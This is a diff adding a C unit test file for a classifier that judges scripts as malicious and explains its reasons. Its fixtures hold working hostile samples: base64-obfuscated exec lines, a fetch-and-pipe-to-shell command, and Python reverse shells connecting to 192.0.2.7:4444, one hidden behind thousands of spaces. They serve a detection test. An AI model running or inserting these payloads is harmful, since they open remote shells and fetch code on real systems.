@@ -1,0 +1,178 @@
+/*
+ * The judge with the model of the source tree: how it explains what it finds, and its bounds. What
+ * it finds is in tests/unit/ctl/test_classify.c.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/text.h"
+#include "judge_model.h"
+
+struct fixture {
+	struct lw_judge *judge;
+	struct lw_model *model;
+};
+
+static int
+begin_test(void **state)
+{
+	struct fixture *f = calloc(1, sizeof(*f));
+
+	f->model = judge_model_open();
+	*state = f;
+	return lw_judge_new(&f->judge);
+}
+
+static int
+end_test(void **state)
+{
+	struct fixture *f = *state;
+
+	lw_judge_free(f->judge);
+	lw_model_free(f->model);
+	free(f);
+	return 0;
+}
+
+static struct lw_judgement
+judged(const struct fixture *f, enum lw_language language, const char *text)
+{
+	struct lw_judgement r;
+
+	lw_judge_script(f->judge, f->model, language, (const uint8_t *)text, strlen(text), &r);
+	return r;
+}
+
+static void
+reasons_name_behaviour_and_line(void **state)
+{
+	struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON,
+		"import base64\n"
+		"import socket\n"
+		"exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n");
+
+	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
+	assert_true(r.reason_count >= 1);
+	assert_non_null(strstr(r.reasons[0], "decode-then-exec"));
+	assert_non_null(strstr(r.reasons[0], "(line 3)"));
+}
+
+static void
+an_ordinary_script_has_no_reasons(void **state)
+{
+	struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON,
+		"import json\n\n\ndef load(path):\n    with open(path) as f:\n"
+		"        return json.load(f)\n");
+
+	assert_int_equal(r.verdict, LW_VERDICT_UNKNOWN);
+	assert_int_equal(r.reason_count, 0);
+	assert_true(r.score < 0.05);
+}
+
+/* Its own text is harmless to look at. */
+static void
+a_layer_that_was_decoded_is_judged_and_named(void **state)
+{
+	struct lw_judgement r = judged(*state, LW_LANGUAGE_SHELL,
+		"X=Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3ggfCBzaCAmJiBiYXNoIC1pID4mIC9kZXYvdGNwLzE5"
+		"Mi4wLjIuNy80NDQ0IDA+JjE=\necho $X | openssl enc -d -a | sh\n");
+
+	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
+	assert_non_null(strstr(r.reasons[r.reason_count - 1], "decoded base64 (line 1)"));
+}
+
+static void
+empty_and_tiny_texts_are_unknown(void **state)
+{
+	static const char *const texts[] = {"", "\n", "x", ":", "#"};
+
+	for (size_t i = 0; i < LW_ARRAY_SIZE(texts); i++) {
+		for (int language = 0; language < LW_LANGUAGE_COUNT; language++)
+			assert_int_equal(
+				judged(*state, language, texts[i]).verdict, LW_VERDICT_UNKNOWN);
+	}
+}
+
+static void
+without_a_model_reverse_shells_are_found_by_behaviour(void **state)
+{
+	static const char text[] = "import socket,os,pty\ns=socket.socket()\n"
+				   "s.connect(('192.0.2.7',4444))\npty.spawn('/bin/sh')\n";
+	struct fixture *f = *state;
+	struct lw_judgement r;
+
+	lw_judge_script(
+		f->judge, NULL, LW_LANGUAGE_PYTHON, (const uint8_t *)text, sizeof(text) - 1, &r);
+	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
+	assert_non_null(strstr(r.reasons[0], "shell"));
+}
+
+/* A text of ordinary lines with one line of another kind in it. */
+static char *
+with_line(size_t lines, size_t at, const char *line)
+{
+	struct lw_text text;
+
+	lw_text_init(&text, 16 * 1024 * 1024);
+	for (size_t i = 0; i < lines; i++) {
+		if (i == at)
+			lw_text_adds(&text, line);
+		lw_text_addf(
+			&text, "def area_%zu(width, height):\n    return width * height\n\n\n", i);
+	}
+	assert_false(text.failed);
+	return text.data;
+}
+
+static void
+one_injected_line_is_found_wherever_it_is(void **state)
+{
+	static const char line[] = "exec(__import__('base64').b64decode("
+				   "'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAxOTIuMC4yLjd8c2gnKQ=='))\n";
+
+	for (size_t at = 0; at < 2000; at += 400) {
+		_cleanup_free_ char *text = with_line(2000, at, line);
+		struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON, text);
+
+		if (r.verdict < LW_VERDICT_SUSPICIOUS)
+			print_message("line %zu: %.4f\n", at, r.score);
+		assert_true(r.verdict >= LW_VERDICT_SUSPICIOUS);
+	}
+}
+
+/* Longer than what is looked at: the end and the longest lines still are. */
+static void
+the_end_and_the_longest_lines_of_a_huge_text_count(void **state)
+{
+	_cleanup_free_ char *payload = malloc(9000), *end = NULL, *middle = NULL;
+
+	memset(payload, ' ', 9000);
+	strcpy(&payload[7000],
+		";import os,socket,subprocess as p;s=socket.socket();s.connect(('192.0.2.7',4444));"
+		"os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p.call(['/bin/sh','-i'])\n");
+	payload[0] = 'x';
+	end = with_line(20000, 19999, &payload[7001]);
+	middle = with_line(20000, 12000, payload);
+	assert_true(strlen(middle) > 2 * LW_FEATURE_TEXT_MAX);
+	assert_true(judged(*state, LW_LANGUAGE_PYTHON, end).verdict >= LW_VERDICT_SUSPICIOUS);
+	assert_true(judged(*state, LW_LANGUAGE_PYTHON, middle).verdict >= LW_VERDICT_SUSPICIOUS);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(reasons_name_behaviour_and_line),
+		cmocka_unit_test(an_ordinary_script_has_no_reasons),
+		cmocka_unit_test(a_layer_that_was_decoded_is_judged_and_named),
+		cmocka_unit_test(empty_and_tiny_texts_are_unknown),
+		cmocka_unit_test(without_a_model_reverse_shells_are_found_by_behaviour),
+		cmocka_unit_test(one_injected_line_is_found_wherever_it_is),
+		cmocka_unit_test(the_end_and_the_longest_lines_of_a_huge_text_count),
+	};
+
+	return cmocka_run_group_tests_name("judge", tests, begin_test, end_test);
+}
